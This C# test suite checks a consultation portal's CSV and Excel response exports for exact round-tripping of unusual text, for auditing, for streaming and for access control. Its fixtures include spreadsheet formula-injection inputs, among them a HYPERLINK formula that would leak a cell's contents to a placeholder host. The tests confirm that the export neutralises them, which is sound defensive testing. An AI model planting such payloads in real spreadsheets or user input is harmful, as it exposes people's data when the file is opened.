using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using ContactPointConsultation.Core;
using ContactPointConsultation.Core.Audit;
using ContactPointConsultation.Core.Data;
using ContactPointConsultation.Tests.Infrastructure;
using CsvHelper;
using CsvHelper.Configuration;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;

namespace ContactPointConsultation.Tests.Staff;

public class ExportTests(SharedPortal portal)
{
    internal const string CsvUrl = "/staff/downloads/responses.csv";
    internal const string XlsxUrl = "/staff/downloads/responses.xlsx";
    private static readonly DateTimeOffset Now = new(2026, 12, 1, 10, 0, 15, TimeSpan.Zero);

    /// <summary>The columns both files must have, in this order.</summary>
    private static readonly string[] Columns =
    [
        "Reference", "Submitted at", "Wording version", "Age group", "Answering as",
        "Q2 answer", "Q2 comments", "Q3 answer", "Q3 comments", "Q4 answer", "Q4 comments",
        "Q5 answer", "Q5 comments", "Q6 answer", "Q6 comments", "Q7 answer", "Q7 comments",
        "Q8 answer", "Q8 comments", "Q9 answer", "Q9 comments", "Q10 answer", "Q10 comments",
        "Q11 answer", "Q11 comments", "Q12 comments", "Channel", "Date received", "Batch",
    ];

    /// <summary>
    /// What a young person typed, and the CSV cell it must become: the same text, with an apostrophe only where
    /// the checklist's rule says. The Excel cell is always exactly what was typed.
    /// </summary>
    private static readonly (string Typed, string Cell)[] TrickyComments =
    [
        ("Family 👩‍👩‍👧‍👦 and flag 🏳️‍🌈", "Family 👩‍👩‍👧‍👦 and flag 🏳️‍🌈"),
        ("Mae'n ŵyr ac ŷd, medden nhw", "Mae'n ŵyr ac ŷd, medden nhw"),
        ("\u202Bرأيي مهم\u202C and \u200Fمرحبا", "\u202Bرأيي مهم\u202C and \u200Fمرحبا"),
        ("我们应该被询问意见。", "我们应该被询问意见。"),
        ("First line\nSecond line\n\nFourth", "First line\nSecond line\n\nFourth"),
        ("She said \"no\", twice: \"\"no\"\"", "She said \"no\", twice: \"\"no\"\""),
        ("commas, everywhere, ,,", "commas, everywhere, ,,"),
        ("=HYPERLINK(\"http://x?\"&A1,\"x\")", "'=HYPERLINK(\"http://x?\"&A1,\"x\")"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("a\"\n=1", "a\"\n=1"),
        ("\u200B=1", "'\u200B=1"),
        (" =1", "' =1"),
        ("\u202E=1", "'\u202E=1"),
        ("\n@x", "'\n@x"),
        ("  trailing and leading spaces  ", "  trailing and leading spaces  "),
    ];

    /// <summary>
    /// Comments that start with a character a spreadsheet could take for a formula, each as typed and as the
    /// portal keeps it: a line break, however it came, is kept as "\n".
    /// </summary>
    internal static readonly (string Typed, string Kept)[] FormulaLikeComments =
    [
        ("=1+1", "=1+1"),
        ("+44 7700", "+44 7700"),
        ("-5", "-5"),
        ("@SUM(A1)", "@SUM(A1)"),
        ("\tTabbed in first", "\tTabbed in first"),
        ("\r\nA line break first", "\nA line break first"),
    ];

    private static readonly Dictionary<string, string> ChoiceLabels = new() { ["yes"] = "Yes", ["no"] = "No", ["not-sure"] = "Not sure" };

    [Fact]
    public async Task Csv_TrickyText_RoundTripsExactly()
    {
        var sent = await SendTrickyResponsesAsync(portal);
        using var browser = await portal.SignedInStaffAsync();

        using var response = await browser.Client.GetAsync(new Uri(CsvUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        var bytes = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = new UTF8Encoding(false, throwOnInvalidBytes: true).GetString(bytes, 3, bytes.Length - 3);
        Assert.StartsWith(string.Join(',', Columns.Select(c => $"\"{c}\"")) + "\r\n", text, StringComparison.Ordinal);
        Assert.EndsWith("\"\r\n", text, StringComparison.Ordinal);
        Assert.Contains("\"She said \"\"no\"\", twice: \"\"\"\"no\"\"\"\"\"", text, StringComparison.Ordinal);

        var records = ParseCsv(text);
        Assert.Equal(Columns, records[0]);
        Assert.All(records, r => Assert.Equal(Columns.Length, r.Length));
        foreach (var (reference, expected, _) in sent)
        {
            Assert.Equal(expected, Assert.Single(records, r => r[0] == reference));
        }
    }

    [Fact]
    public async Task Excel_TrickyText_IsTheExactTextInTextCellsOnlyUnderAFrozenHeader()
    {
        var sent = await SendTrickyResponsesAsync(portal);
        using var browser = await portal.SignedInStaffAsync();

        using var response = await browser.Client.GetAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        using var file = new MemoryStream(await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
        using var workbook = SpreadsheetDocument.Open(file, isEditable: false);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(["Responses", "Codebook", "Themes", "Themes codebook"], SheetNames(workbook));
        Assert.Empty(workbook.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<CellFormula>()));
        var sheet = Worksheet(workbook, "Responses");
        var pane = Assert.Single(sheet.Descendants<Pane>());
        Assert.Equal(PaneStateValues.Frozen, pane.State!.Value);
        Assert.Equal(1, pane.VerticalSplit!.Value);
        Assert.Equal("A2", pane.TopLeftCell!.Value);

        var rows = TextRows(sheet);
        Assert.Equal(Columns, rows[0]);
        Assert.All(rows, r => Assert.Equal(Columns.Length, r.Length));
        foreach (var (reference, _, expected) in sent)
        {
            Assert.Equal(expected, Assert.Single(rows, r => r[0] == reference));
        }
    }

    [Fact]
    public async Task Xlsx_CommentStartingWithAFormulaCharacter_IsTheExactTextInAStringCellFormattedAsText()
    {
        var (reference, questions) = await SendFormulaLikeCommentsAsync(portal);
        using var browser = await portal.SignedInStaffAsync();

        using var file = new MemoryStream(await browser.Client.GetByteArrayAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken));
        using var workbook = SpreadsheetDocument.Open(file, isEditable: false);

        var row = Assert.Single(Worksheet(workbook, "Responses").Descendants<Row>(), r => CellText(workbook, r.Elements<Cell>().First()) == reference);
        var cells = row.Elements<Cell>().ToList();
        for (var i = 0; i < FormulaLikeComments.Length; i++)
        {
            AssertExactTextCell(workbook, cells[Array.IndexOf(Columns, $"Q{questions[i]} comments")], FormulaLikeComments[i].Kept, formattedAsText: true);
        }

        AssertExactTextCell(workbook, cells[Array.IndexOf(Columns, "Q12 comments")], "Plain words", formattedAsText: false);
    }

    [Fact]
    public async Task Csv_CommentStartingWithAFormulaCharacter_StillHasALeadingApostrophe()
    {
        var (reference, questions) = await SendFormulaLikeCommentsAsync(portal);
        using var browser = await portal.SignedInStaffAsync();

        var csv = await browser.Client.GetByteArrayAsync(new Uri(CsvUrl, UriKind.Relative), TestContext.Current.CancellationToken);

        var record = Assert.Single(ParseCsv(Encoding.UTF8.GetString(csv.AsSpan(3))), r => r[0] == reference);
        for (var i = 0; i < FormulaLikeComments.Length; i++)
        {
            Assert.Equal("'" + FormulaLikeComments[i].Kept, record[Array.IndexOf(Columns, $"Q{questions[i]} comments")]);
        }

        Assert.Equal("Plain words", record[Array.IndexOf(Columns, "Q12 comments")]);
    }

    [Fact]
    public async Task Excel_Codebook_HasEveryQuestionOfEveryWordingVersion()
    {
        using var browser = await portal.SignedInStaffAsync();

        using var response = await browser.Client.GetAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        using var file = new MemoryStream(await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
        using var workbook = SpreadsheetDocument.Open(file, isEditable: false);

        var rows = TextRows(Worksheet(workbook, "Codebook"));
        var wordings = await portal.QueryAsync(db => db.QuestionWordings
            .Join(db.ContentVersions.Where(v => v.State != ContentVersionState.Draft), q => q.ContentVersionId, v => v.Id, (q, v) => new { v.Number, Question = q })
            .OrderBy(x => x.Number).ThenBy(x => x.Question.Number)
            .ToListAsync(TestContext.Current.CancellationToken));
        var versions = await portal.QueryAsync(db => db.ContentVersions.CountAsync(v => v.State != ContentVersionState.Draft, TestContext.Current.CancellationToken));

        Assert.Equal(["Version", "Question", "Section title", "Question wording", "Help text", "Comment prompt", "Has Yes/No/Not sure"], rows[0]);
        Assert.Equal(1 + (11 * versions), rows.Count);
        Assert.Equal(["1", "2", "Misuse"], rows[1][..3]);
        Assert.Equal(["1", "12"], rows[11][..2]);
        Assert.Equal("No", rows[11][6]);
        Assert.Equal(
            wordings.Select(w => new[]
            {
                w.Number.ToString(CultureInfo.InvariantCulture), w.Question.Number.ToString(CultureInfo.InvariantCulture),
                w.Question.SectionTitle, w.Question.Question, w.Question.HelpText, w.Question.CommentPrompt,
                w.Question.HasChoice ? "Yes" : "No",
            }),
            rows.Skip(1));
        Assert.Equal(PaneStateValues.Frozen, Assert.Single(Worksheet(workbook, "Codebook").Descendants<Pane>()).State!.Value);
    }

    [Fact]
    public async Task Excel_CharacterThatXmlCannotHold_IsReplacedAndTheWorkbookStillOpens()
    {
        string reference;
        using (var respondent = portal.CreateRespondent())
        {
            reference = await respondent.SendAsync(Journey.Empty().Answer(2, "yes", "before\uFFFEafter"));
        }

        using var browser = await portal.SignedInStaffAsync();
        var csv = await browser.Client.GetByteArrayAsync(new Uri(CsvUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        using var file = new MemoryStream(await browser.Client.GetByteArrayAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken));
        using var workbook = SpreadsheetDocument.Open(file, isEditable: false);

        Assert.Equal("before\uFFFEafter", Assert.Single(ParseCsv(Encoding.UTF8.GetString(csv.AsSpan(3))), r => r[0] == reference)[6]);
        Assert.Equal("before\uFFFDafter", Assert.Single(TextRows(Worksheet(workbook, "Responses")), r => r[0] == reference)[6]);
    }

    [Fact]
    public async Task Downloads_NoResponses_HaveOnlyTheHeaderRow()
    {
        await using var empty = new PortalFactory(provider: portal.Database.Provider);
        using var browser = await empty.SignedInStaffAsync();

        var csv = await browser.Client.GetByteArrayAsync(new Uri(CsvUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        using var file = new MemoryStream(await browser.Client.GetByteArrayAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken));
        using var workbook = SpreadsheetDocument.Open(file, isEditable: false);

        var expectedCsv = "\uFEFF" + string.Join(',', Columns.Select(c => $"\"{c}\"")) + "\r\n";
        Assert.Equal(Encoding.UTF8.GetBytes(expectedCsv), csv);
        Assert.Equal([Columns], TextRows(Worksheet(workbook, "Responses")));
        Assert.Equal(12, TextRows(Worksheet(workbook, "Codebook")).Count);
        await browser.GetAsync("/staff/downloads");
        Assert.Contains("No responses have been sent yet", browser.Text("main"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Downloads_EachIsAuditedOnceWithFormatAndRowCount_AndNoCommentText()
    {
        await using var isolated = new PortalFactory(provider: portal.Database.Provider);
        const string Secret = "My name is Sam and I live at 1 High Street";
        foreach (var comment in new[] { Secret, "=1+1 " + Secret })
        {
            using var respondent = isolated.CreateRespondent();
            await respondent.SendAsync(Journey.Empty().Answer(2, "yes", comment));
        }

        var analyst = await isolated.CreateStaffAsync();
        using var browser = isolated.CreateRespondent();
        await browser.SignInAsync(analyst);

        await browser.Client.GetByteArrayAsync(new Uri(CsvUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        var afterCsv = await DownloadEventsAsync(isolated, analyst.Email);
        await browser.Client.GetByteArrayAsync(new Uri(XlsxUrl, UriKind.Relative), TestContext.Current.CancellationToken);
        var afterXlsx = await DownloadEventsAsync(isolated, analyst.Email);

        var csvEvent = Assert.Single(afterCsv);
        Assert.Equal(2, afterXlsx.Count);
        Assert.Equal(("csv", 2, true), Details(csvEvent));
        Assert.Equal(("xlsx", 2, true), Details(afterXlsx[1]));
        Assert.All(afterXlsx, e => Assert.DoesNotContain("Sam", e.Details!, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Downloads_OfOneHundredThousandResponses_StreamEveryRowAndAreAudited()
    {
        const int Responses = 100_000;
        await using var isolated = new PortalFactory(provider: portal.Database.Provider);
        using (var respondent = isolated.CreateRespondent())
        {
            await respondent.SendAsync(Journey.AllAnswered());
        }

        // Copies of that real response, made in the database: sending 100,000 through the pages would take an hour.
        // The copies are every response but the first: the real one's random reference may itself start with "L".
        await isolated.QueryAsync(async db =>
        {
            // A million answer rows take longer than a command's default 30 seconds on a busy test machine.
            db.Database.SetCommandTimeout(TimeSpan.FromMinutes(5));
            await db.Database.ExecuteSqlAsync(isolated.Database.IsPostgreSql
                ? (FormattableString)$"""
                    INSERT INTO "Responses" ("Reference", "SubmissionKey", "ContentVersionId", "AgeGroup", "AnsweringAs", "SubmittedAt", "ScreenedAt", "Channel")
                    SELECT 'L' || lpad(i::text, 7, '0'), ('00000000-0000-0000-0000-' || lpad(i::text, 12, '0'))::uuid,
                        "ContentVersionId", "AgeGroup", "AnsweringAs", "SubmittedAt", "ScreenedAt", "Channel"
                    FROM generate_series(2, {Responses}) AS n(i) CROSS JOIN (SELECT * FROM "Responses" LIMIT 1) AS first
                    """
                : (FormattableString)$"""
                    WITH RECURSIVE n(i) AS (SELECT 2 UNION ALL SELECT i + 1 FROM n WHERE i < {Responses})
                    INSERT INTO "Responses" ("Reference", "SubmissionKey", "ContentVersionId", "AgeGroup", "AnsweringAs", "SubmittedAt", "ScreenedAt", "Channel")
                    SELECT printf('L%07d', i), printf('00000000-0000-0000-0000-%012d', i), "ContentVersionId", "AgeGroup", "AnsweringAs", "SubmittedAt", "ScreenedAt", "Channel"
                    FROM n CROSS JOIN (SELECT * FROM "Responses" LIMIT 1) AS first
                    """,
                TestContext.Current.CancellationToken);
            return await db.Database.ExecuteSqlAsync($"""
                INSERT INTO "ResponseAnswers" ("ResponseId", "QuestionNumber", "Choice", "Comments")
                SELECT r."Id", a."QuestionNumber", a."Choice", a."Comments"
                FROM "Responses" r CROSS JOIN (SELECT * FROM "ResponseAnswers" WHERE "ResponseId" = (SELECT MIN("Id") FROM "Responses")) a
                WHERE r."Id" <> (SELECT MIN("Id") FROM "Responses")
                """, TestContext.Current.CancellationToken);
        });
        var analyst = await isolated.CreateStaffAsync();
        using var browser = isolated.CreateRespondent();
        await browser.SignInAsync(analyst);

        using (var csv = await browser.Client.GetAsync(new Uri(CsvUrl, UriKind.Relative), HttpCompletionOption.ResponseHeadersRead, TestContext.Current.CancellationToken))
        {
            Assert.Null(csv.Content.Headers.ContentLength);
            using var reader = new StreamReader(await csv.Content.ReadAsStreamAsync(TestContext.Current.CancellationToken));
            using var parser = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { HasHeaderRecord = false, Mode = CsvMode.RFC4180 });
            var rows = 0;
            string[]? last = null;
            while (await parser.ReadAsync())
            {
                rows++;
                last = parser.Parser.Record;
            }

            Assert.Equal(Responses + 1, rows);
            Assert.Equal("Comment for question 11 – ‘quoted’ & <b>bold</b>", last![Array.IndexOf(Columns, "Q11 comments")]);
        }

        using (var xlsx = await browser.Client.GetAsync(new Uri(XlsxUrl, UriKind.Relative), HttpCompletionOption.ResponseHeadersRead, TestContext.Current.CancellationToken))
        {
            Assert.Null(xlsx.Content.Headers.ContentLength);
            using var file = new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken));
            using var workbook = SpreadsheetDocument.Open(file, isEditable: false);
            var sheet = (WorksheetPart)workbook.WorkbookPart!.GetPartById(workbook.WorkbookPart.Workbook.Sheets!.Elements<Sheet>().First().Id!);
            using var rows = OpenXmlReader.Create(sheet);
            var count = 0;
            while (rows.Read())
            {
                if (rows.ElementType == typeof(Row) && rows.IsStartElement)
                {
                    count++;
                }
            }

            Assert.Equal(Responses + 1, count);
        }

        var audited = await DownloadEventsAsync(isolated, analyst.Email);
        Assert.Equal([("csv", Responses, true), ("xlsx", Responses, true)], audited.Select(Details));
    }

    [Fact]
    public async Task Downloads_AreAttachmentsWithAServerChosenNameAndAreNeverStored()
    {
        await using var isolated = new PortalFactory(now: Now, provider: portal.Database.Provider);
        using (var respondent = isolated.CreateRespondent())
        {
            await respondent.SendAsync(Journey.Empty().Answer(3, "no").AboutYou("over-18", "adult-helping"));
        }

        var analyst = await isolated.CreateStaffAsync();
        using var browser = isolated.CreateRespondent();
        await browser.SignInAsync(analyst, analyst.CodeAt(Now));

        var bodies = new Dictionary<string, byte[]>();
        foreach (var (url, name, contentType) in new[]
        {
            (CsvUrl, "contactpoint-responses-20261201-1000Z.csv", "text/csv; charset=utf-8"),
            (XlsxUrl, "contactpoint-responses-20261201-1000Z.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        })
        {
            using var response = await browser.Client.GetAsync(new Uri(url, UriKind.Relative), TestContext.Current.CancellationToken);
            bodies[url] = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal(url, response.RequestMessage!.RequestUri!.AbsolutePath);
            Assert.Equal($"attachment; filename=\"{name}\"", string.Join(", ", response.Content.Headers.GetValues("Content-Disposition")));
            Assert.Equal(contentType, response.Content.Headers.ContentType!.ToString());
            Assert.True(response.Headers.CacheControl!.NoStore);
            Assert.Equal("nosniff", string.Join(", ", response.Headers.GetValues("X-Content-Type-Options")));
        }

        var csv = ParseCsv(Encoding.UTF8.GetString(bodies[CsvUrl].AsSpan(3)));
        Assert.Equal(["2026-12-01T10:00:15Z", "1", "Over 18", "An adult helping a young person to answer", "", "", "No", ""], csv[1][1..9]);
    }

    [Fact]
    public async Task DownloadsPage_SaysHowManyResponsesAndLinksToEachFile()
    {
        await using var isolated = new PortalFactory(provider: portal.Database.Provider);
        for (var i = 0; i < 2; i++)
        {
            using var respondent = isolated.CreateRespondent();
            await respondent.SendAsync(Journey.Empty().Answer(12, null, $"Response {i}"));
        }

        using var browser = await isolated.SignedInStaffAsync();
        await browser.GetAsync("/staff");
        var button = browser.Page.QuerySelector("main a.govuk-button[href='/staff/downloads']")!;
        Assert.Equal(("Download responses", "/staff/downloads"), (button.TextContent.Trim(), button.GetAttribute("href")));

        await browser.GetAsync("/staff/downloads");

        Assert.Equal("Download responses", browser.Text("h1"));
        Assert.StartsWith("Download responses - ", browser.Page.Title, StringComparison.Ordinal);
        Assert.Contains("all 2 responses sent so far", browser.Text("main"), StringComparison.Ordinal);
        Assert.Equal(
            [("Download as CSV", CsvUrl), ("Download as Excel", XlsxUrl), ("Download the themes as CSV", "/staff/downloads/themes.csv")],
            browser.Page.QuerySelectorAll("main a.govuk-link[href^='/staff/downloads/']").Select(a => (a.TextContent.Trim(), a.GetAttribute("href"))));
    }

    [Theory]
    [InlineData("/staff/downloads")]
    [InlineData(CsvUrl)]
    [InlineData(XlsxUrl)]
    public async Task Downloads_Anonymous_AreSentToSignIn(string url)
    {
        using var browser = portal.CreateRespondent();

        using var response = await browser.Client.GetAsync(new Uri(url, UriKind.Relative), TestContext.Current.CancellationToken);

        Assert.Equal($"/staff/sign-in?ReturnUrl={Uri.EscapeDataString(url)}", response.RequestMessage!.RequestUri!.PathAndQuery);
        Assert.Null(response.Content.Headers.ContentDisposition);
    }

    /// <summary>One response with <see cref="FormulaLikeComments"/> on questions 2 to 7 and "Plain words" on 12; its reference and each comment's question.</summary>
    internal static async Task<(string Reference, int[] Questions)> SendFormulaLikeCommentsAsync(PortalFactory portal)
    {
        var journey = Journey.Empty().Answer(12, null, "Plain words");
        var questions = Enumerable.Range(2, FormulaLikeComments.Length).ToArray();
        for (var i = 0; i < FormulaLikeComments.Length; i++)
        {
            journey.Answer(questions[i], "yes", FormulaLikeComments[i].Typed);
        }

        using var respondent = portal.CreateRespondent();
        return (await respondent.SendAsync(journey), questions);
    }

    /// <summary>
    /// Two respondents whose comments hold every awkward kind of text; returns each reference with the
    /// rows the CSV and the Excel file must have for it, built from what was typed and the stored time.
    /// </summary>
    private static async Task<List<(string Reference, string[] Csv, string[] Xlsx)>> SendTrickyResponsesAsync(PortalFactory portal)
    {
        string?[] answers = ["yes", "no", "not-sure"];
        var first = Journey.Empty().AboutYou("11-to-13", "young-person");
        var second = Journey.Empty().AboutYou("prefer-not-to-say", null);
        for (var i = 0; i < TrickyComments.Length; i++)
        {
            var number = 2 + (i % 11);
            (i < 11 ? first : second).Answer(number, number == 12 ? null : answers[i % 3], TrickyComments[i].Typed);
        }

        second.Answer(11, "not-sure");
        var sent = new List<(string, string[], string[])>();
        foreach (var (journey, ageGroup, answeringAs) in new[]
        {
            (first, "11 to 13", "A young person, answering for myself"),
            (second, "Prefer not to say", ""),
        })
        {
            using var respondent = portal.CreateRespondent();
            var reference = await respondent.SendAsync(journey);
            var stored = await portal.QueryAsync(db => db.Responses.AsNoTracking().Include(r => r.Answers)
                .SingleAsync(r => r.Reference == reference, TestContext.Current.CancellationToken));

            List<string> csv = [reference, stored.SubmittedAt.ToString("yyyy-MM-dd'T'HH:mm:ss'Z'", CultureInfo.InvariantCulture), "1", ageGroup, answeringAs];
            List<string> xlsx = [.. csv];
            for (var number = 2; number <= 12; number++)
            {
                var (answer, typed) = journey.Answers.GetValueOrDefault(number);
                Assert.Equal(typed, stored.Answers.SingleOrDefault(a => a.QuestionNumber == number)?.Comments);
                if (number < 12)
                {
                    csv.Add(answer is null ? "" : ChoiceLabels[answer]);
                    xlsx.Add(answer is null ? "" : ChoiceLabels[answer]);
                }

                csv.Add(typed is null ? "" : TrickyComments.Single(t => t.Typed == typed).Cell);
                xlsx.Add(typed ?? "");
            }

            // Sent online, so received the UK day it was sent, with no batch.
            string[] received = ["Online", UkTime.DayOf(stored.SubmittedAt).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture), ""];
            sent.Add((reference, [.. csv, .. received], [.. xlsx, .. received]));
        }

        return sent;
    }

    internal static List<string[]> ParseCsv(string text)
    {
        using var reader = new StringReader(text);
        using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { HasHeaderRecord = false, Mode = CsvMode.RFC4180 });
        var records = new List<string[]>();
        while (csv.Read())
        {
            records.Add(csv.Parser.Record!);
        }

        return records;
    }

    private static List<string> SheetNames(SpreadsheetDocument workbook) =>
        [.. workbook.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>().Select(s => s.Name!.Value!)];

    internal static Worksheet Worksheet(SpreadsheetDocument workbook, string name)
    {
        var sheet = workbook.WorkbookPart!.Workbook.Sheets!.Elements<Sheet>().Single(s => s.Name == name);
        return ((WorksheetPart)workbook.WorkbookPart.GetPartById(sheet.Id!)).Worksheet;
    }

    /// <summary>Every cell of every row, each of which must be a text cell in its place: no numbers, no formulas, no gaps, whitespace kept.</summary>
    internal static List<string[]> TextRows(Worksheet sheet) =>
        [.. sheet.Descendants<Row>().Select(row => row.Elements<Cell>().Select((cell, column) =>
        {
            Assert.Null(cell.CellFormula);
            if (cell.CellReference?.Value is { } reference)
            {
                Assert.Equal(ColumnName(column), new string(reference.TakeWhile(char.IsLetter).ToArray()));
            }

            Assert.Equal(CellValues.InlineString, cell.DataType?.Value);
            var text = cell.InlineString!.Text!;
            if (text.Text != text.Text.Trim())
            {
                // Without xml:space="preserve", Excel drops a comment's leading and trailing spaces.
                Assert.Equal(SpaceProcessingModeValues.Preserve, text.Space?.Value);
            }

            return text.Text;
        }).ToArray())];

    /// <summary>
    /// The cell holds exactly <paramref name="expected"/> as a string (shared or inline), which no spreadsheet
    /// evaluates, and never a formula. A cell a spreadsheet could take for a formula also has the Text number
    /// format, so typing over it later keeps it text (see <c>SpreadsheetText</c>).
    /// </summary>
    internal static void AssertExactTextCell(SpreadsheetDocument workbook, Cell cell, string expected, bool formattedAsText)
    {
        Assert.Null(cell.CellFormula);
        Assert.Contains(cell.DataType?.Value, new CellValues?[] { CellValues.InlineString, CellValues.SharedString });
        Assert.Equal(expected, CellText(workbook, cell));
        var format = cell.StyleIndex is { } index
            ? workbook.WorkbookPart!.WorkbookStylesPart!.Stylesheet.CellFormats!.Elements<CellFormat>().ElementAt((int)index.Value)
            : null;
        Assert.Equal(formattedAsText, format?.NumberFormatId?.Value == TextNumberFormat);
    }

    /// <summary>The text of a string cell, shared or inline.</summary>
    internal static string CellText(SpreadsheetDocument workbook, Cell cell) =>
        cell.DataType?.Value == CellValues.SharedString
            ? workbook.WorkbookPart!.SharedStringTablePart!.SharedStringTable.Elements<SharedStringItem>().ElementAt(int.Parse(cell.CellValue!.Text, CultureInfo.InvariantCulture)).InnerText
            : cell.InlineString!.Text!.Text;

    /// <summary>Excel's built-in number format 49, "@": Text.</summary>
    private const uint TextNumberFormat = 49;

    private static string ColumnName(int index) => index < 26 ? ((char)('A' + index)).ToString() : ColumnName((index / 26) - 1) + (char)('A' + (index % 26));

    private static Task<List<AuditEvent>> DownloadEventsAsync(PortalFactory portal, string actor) =>
        portal.QueryAsync(db => db.AuditEvents.AsNoTracking()
            .Where(e => e.Actor == actor && e.Action == AuditActions.ResponsesDownloaded)
            .OrderBy(e => e.Id)
            .ToListAsync(TestContext.Current.CancellationToken));

    private static (string Format, int Rows, bool Completed) Details(AuditEvent e)
    {
        using var details = JsonDocument.Parse(e.Details!);
        var root = details.RootElement;
        return (root.GetProperty("format").GetString()!, root.GetProperty("rows").GetInt32(), root.GetProperty("completed").GetBoolean());
    }
}

public sealed class ExportTestsOnPostgreSql(SharedPostgreSqlPortal portal) : ExportTests(portal), IClassFixture<SharedPostgreSqlPortal>;
